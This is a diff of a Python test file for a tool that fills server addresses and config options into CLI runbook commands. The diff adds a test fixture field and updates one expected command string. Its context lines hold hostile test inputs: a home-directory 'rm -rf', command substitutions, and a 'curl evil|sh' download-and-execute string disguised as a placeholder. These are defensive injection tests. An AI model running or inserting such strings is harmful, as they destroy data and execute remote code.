@@ -14,7 +14,10 @@ from service.runbooks.filling import values_of
 HOSTILE = "a b; rm -rf ~ $(id) `id` 'x\" --execute {group} ü\n"
 SHORT_HOSTILE = "{group};curl${IFS}evil|sh"  # has the form of a placeholder, and no space
 AT = Surroundings(
-    bootstrap_servers="b1:9092", of_server=("--server", "http://t:1"), config=Path("/c.toml")
+    bootstrap_servers="b1:9092",
+    of_server=("--server", "http://t:1"),
+    of_server_also=("--server", "http://t:1"),
+    config=Path("/c.toml"),
 )
 
 
@@ -70,7 +73,7 @@ def test_addresses_are_added_where_options_may_be() -> None:
     assert completed("tidemark loss show -- a-0") == "tidemark loss show --server http://t:1 -- a-0"
     assert (
         completed("tidemark tx show -- -x")
-        == "tidemark tx show --config /c.toml --bootstrap-servers b1:9092 -- -x"
+        == "tidemark tx show --config /c.toml --bootstrap-servers b1:9092 --server http://t:1 -- -x"
     )
     assert (
         completed("kafka-transactions.sh list")
